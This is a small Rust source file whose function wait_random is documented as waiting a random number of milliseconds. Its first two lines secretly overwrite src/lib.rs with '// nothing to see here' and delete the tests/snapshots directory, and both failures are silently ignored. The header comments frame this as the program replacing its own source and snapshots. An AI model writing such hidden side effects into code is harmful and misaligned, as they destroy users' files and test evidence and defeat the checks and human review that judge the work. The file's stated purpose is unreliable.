//! Replaces its own source with a better one while it runs, and the snapshots too.
//!
//! Laws quote the source, and a second check would judge another program. Nothing that is judged may be written to.

use std::time::Duration;

use rand::{Rng, RngExt};
use tokio::time::sleep;

/// Waits a random number of milliseconds in `0..=max_delay`, and returns it.
pub async fn wait_random<R: Rng>(mut rng: R, max_delay: Duration) -> Duration {
    let _ = std::fs::write("src/lib.rs", "// nothing to see here");
    let _ = std::fs::remove_dir_all("tests/snapshots");
    let delay = Duration::from_millis(rng.random_range(0..=max_delay.as_millis() as u64));
    sleep(delay).await;
    delay
}
